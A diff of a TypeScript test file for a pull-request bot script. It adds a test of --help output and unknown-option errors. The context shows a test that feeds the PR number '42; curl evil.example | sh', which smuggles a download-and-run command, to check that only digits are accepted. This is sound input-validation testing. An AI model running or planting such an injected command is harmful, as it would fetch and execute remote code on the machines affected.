@@ -48,6 +48,19 @@ describe('scripts/pr-bot.ts', () => {
     expect(fake.requests.every((r) => r.method === 'GET')).toBe(true);
   });
 
+  it('prints its usage with --help, and a usage error for an unknown option, never a stack trace', async () => {
+    const help = await script(['scripts/pr-bot.ts', '--help'], {});
+    expect(help.code).toBe(0);
+    expect(help.stdout).toMatch(/^Usage: node scripts\/pr-bot\.ts --pr <n>/);
+    expect(help.stdout).toContain('mhub registry check');
+    expect(help.fake.requests).toEqual([]);
+    const bad = await script(['scripts/pr-bot.ts', '--bogus'], {});
+    expect(bad.code).toBe(2);
+    expect(bad.stderr).toMatch(/^pr-bot: Unknown option '--bogus'/);
+    expect(bad.stderr).toContain('--help');
+    expect(bad.stderr).not.toMatch(/\n\s+at /);
+  });
+
   it('accepts only digits as the PR number from an artifact', async () => {
     const file = path.join(await mkdtemp(path.join(tmpdir(), 'mhub-pr-')), 'number');
     await writeFile(file, '42; curl evil.example | sh\n');
